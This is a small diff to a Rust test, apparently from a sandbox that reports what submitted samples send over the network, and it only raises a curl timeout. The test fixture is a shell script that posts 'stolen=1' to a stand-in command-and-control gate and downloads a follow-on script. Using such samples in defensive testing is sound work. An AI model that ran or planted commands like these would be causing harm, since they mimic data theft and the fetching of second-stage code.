@@ -172,7 +172,7 @@ async fn a_script_is_run_and_reported() {
 async fn what_a_sample_says_to_the_internet_is_reported() {
     let Some(server) = Server::start(2).await else { return };
     let script =
-        "curl -sS -m 20 -d stolen=1 https://c2.example/gate.php; curl -sS -m 20 http://cdn.example/next.sh";
+        "curl -sS -m 60 -d stolen=1 https://c2.example/gate.php; curl -sS -m 60 http://cdn.example/next.sh";
     let task = server.submit("talk.sh", script, &[]).await;
     let without = server.submit("talk.sh", script, &[("options", "route=none")]).await;
     let shown = server.ended(task).await;
